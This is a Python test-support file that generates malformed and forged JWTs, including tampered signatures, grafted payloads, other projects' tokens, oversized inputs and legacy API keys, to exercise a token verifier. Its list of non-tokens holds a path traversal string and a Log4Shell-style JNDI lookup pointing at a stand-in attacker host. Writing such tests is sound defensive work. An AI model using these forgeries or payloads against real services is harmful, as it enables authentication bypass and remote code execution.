"""Tokens that are edited, cut, padded, glued together, or are no token at all."""

from __future__ import annotations

from collections.abc import Callable, Mapping

from cryptography.hazmat.primitives.asymmetric import ec
from jwt.utils import raw_to_der_signature

from tests.support.tokens.forgery import Forgery
from tests.support.tokens.project import SigningProject, encode, segment

Edit = Callable[[str], str]
ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"

# What a valid token is turned into; all of these are no compact JWT any more.
MALFORMED: Mapping[str, Edit] = {
    "a dot at the end": lambda t: f"{t}.",
    "a dot at the start": lambda t: f".{t}",
    "two segments": lambda t: t.rpartition(".")[0],
    "no signature": lambda t: t.rpartition(".")[0] + ".",
    "no payload": lambda t: "..".join((t.split(".")[0], t.split(".")[2])),
    "no header": lambda t: "." + t.partition(".")[2],
    "one segment": lambda t: t.partition(".")[0],
    "four segments": lambda t: f"{t}.{t.rpartition('.')[2]}",
    "five segments, as encrypted tokens have": lambda t: f"{t}.AAAA.AAAA",
    "two tokens": lambda t: f"{t}{t}",
    "padded": lambda t: f"{t}==",
    "padded inside": lambda t: t.replace(".", "=.", 1),
    "a space at the end": lambda t: f"{t} ",
    "a space inside": lambda t: f"{t[:40]} {t[40:]}",
    "a line end": lambda t: f"{t}\n",
    "a line break inside": lambda t: f"{t[:40]}\r\n{t[40:]}",
    "a tab": lambda t: f"\t{t}",
    "a NUL": lambda t: f"{t}\0",
    "a comma": lambda t: f"{t},{t}",
    "in quotes": lambda t: f'"{t}"',
    "Bearer twice": lambda t: f"Bearer {t}",
    "escaped dots": lambda t: t.replace(".", "%2E"),
    "other dots": lambda t: t.replace(".", "\u3002"),
    "a full-width letter": lambda t: "\uff45" + t[1:],
    "a zero-width space": lambda t: f"{t[:9]}\u200b{t[9:]}",
    "a lone surrogate": lambda t: f"{t}\udcff",
    "base64 of the other alphabet": lambda t: f"{t[:-1]}+",
    "stray bits at the end": lambda t: t[:-1] + ALPHABET[ALPHABET.index(t[-1]) ^ 1],
    "one character too many": lambda t: f"{t}AAA",
    "one character of a segment": lambda t: f"{t.rpartition('.')[0]}.A",
}
# What becomes of a right signature (r and s, 32 bytes each).
SIGNATURES: Mapping[str, Callable[[bytes], bytes]] = {
    "of zeros": lambda _: bytes(64),
    "of ones": lambda _: bytes([255]) * 64,
    "of r = s = 1": lambda _: (bytes(31) + bytes([1])) * 2,
    "of one byte": lambda signature: signature[:1],
    "cut by a byte": lambda signature: signature[:-1],
    "with another byte": lambda signature: signature + bytes(1),
    "with a turned bit": lambda signature: bytes([signature[0] ^ 128]) + signature[1:],
    "with r and s swapped": lambda signature: signature[32:] + signature[:32],
}
NO_TOKENS: Mapping[str, str] = {
    "a dot": ".",
    "two dots": "..",
    "null": "null",
    "undefined": "undefined",
    "a JavaScript object": "[object Object]",
    "a publishable key": "sb_publishable_aGVsbG8gd29ybGQgaGVsbG8_0a1b2c3d",
    "a secret key": "sb_secret_aGVsbG8gd29ybGQgaGVsbG8_0a1b2c3d",
    "a refresh token": "v1Xk2pQe9aBc",
    "a uuid": "7f0c2f8e-5f0f-4b51-9d2f-6b1f9d0e1a11",
    "a path": "../../etc/passwd",
    "a template": "${jndi:ldap://attacker.example/a}",
    "a signed token as JSON": '{"payload":"e30","protected":"e30","signature":"AA"}',
}


def _malformed(name: str, edit: Edit) -> Forgery:
    return Forgery(name, "malformed", lambda project: edit(project.token()))


def _resigned(name: str, edit: Callable[[bytes], bytes]) -> Forgery:
    def make(project: SigningProject) -> str:
        text = f"{segment(project.header())}.{segment(project.claims())}"
        return f"{text}.{encode(edit(project.signature(text, 'ES256')))}"

    return Forgery(f"a signature {name}", "signature", make)


def _no_token(name: str, text: str) -> Forgery:
    return Forgery(name, "malformed", lambda _: text)


def _der(project: SigningProject) -> str:
    """The signature in the form that OpenSSL writes, which is not that of JWS."""
    text = f"{segment(project.header())}.{segment(project.claims())}"
    return f"{text}.{encode(raw_to_der_signature(project.signature(text, 'ES256'), ec.SECP256R1()))}"


def _grafted(project: SigningProject) -> str:
    """Somebody else's payload under one's own signature."""
    own, other = project.token(), project.token(sub="5b7c5f1e-0000-4000-8000-5f3a1c2b4d6e")
    return ".".join((own.split(".")[0], other.split(".")[1], own.split(".")[2]))


def _from_elsewhere(project: SigningProject) -> str:
    """Another project's token, rightly signed there, that names this project and its key."""
    return SigningProject(project.url, user_id=project.user_id).token()


def _legacy_elsewhere(project: SigningProject) -> str:
    return SigningProject(project.url, "the-legacy-secret-of-quite-another-project").token("HS256")


def _api_key(role: str) -> Forgery:
    def make(project: SigningProject) -> str:
        claims = {"iss": "supabase", "ref": "project", "role": role, "iat": 1, "exp": project.issued_at + 10**8}
        return project.signed({"alg": "HS256", "typ": "JWT"}, claims, "HS256")

    return Forgery(f"the legacy {role} key", "issuer", make)


FORGED_FORMS: tuple[Forgery, ...] = (
    *(_malformed(name, edit) for name, edit in MALFORMED.items()),
    *(_resigned(name, edit) for name, edit in SIGNATURES.items()),
    *(_no_token(name, text) for name, text in NO_TOKENS.items()),
    Forgery("signature in DER", "signature", _der),
    Forgery("another payload", "signature", _grafted),
    Forgery("another project's token with our names", "signature", _from_elsewhere),
    Forgery("another project's legacy token with our names", "signature", _legacy_elsewhere),
    Forgery("another project's token", "issuer", lambda _: SigningProject("https://other.supabase.co").token()),
    Forgery("larger than 8 KiB", "too_large", lambda p: p.token(user_metadata={"bio": "x" * 7000})),
    Forgery("a megabyte", "too_large", lambda _: "A" * 1_000_000),
    Forgery("a megabyte of dots", "too_large", lambda _: "." * 1_000_000),
    _api_key("anon"),
    _api_key("service_role"),
)
